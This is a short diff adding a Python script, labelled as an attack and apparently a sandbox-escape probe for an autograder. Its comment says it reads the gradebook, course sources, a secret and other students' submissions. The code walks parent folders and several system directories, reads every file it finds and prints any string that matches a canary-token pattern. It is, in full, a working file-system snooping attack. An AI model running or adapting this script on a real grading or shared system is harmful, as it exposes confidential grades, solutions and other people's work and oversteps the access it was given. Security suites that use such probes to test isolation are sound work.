@@ -1,0 +1,18 @@
+# Reads the gradebook, the sources, the secret and other submissions through the file system.
+# %% attack
+import os
+import re
+from pathlib import Path
+
+here = Path.cwd()
+roots = {str(folder) for folder in (*here.parents[:4], here, "/work", "/srv", "/mnt", "/opt", "/course", "/run", "/tmp")}
+found = set()
+for root in sorted(roots - {"/"}):
+    for folder, _, names in os.walk(root):
+        for name in names:
+            try:
+                data = Path(folder, name).read_bytes()[:5_000_000]
+            except OSError:
+                continue
+            found |= set(re.findall(rb"canary-\w+-[0-9a-f]{16}", data))
+print(found)
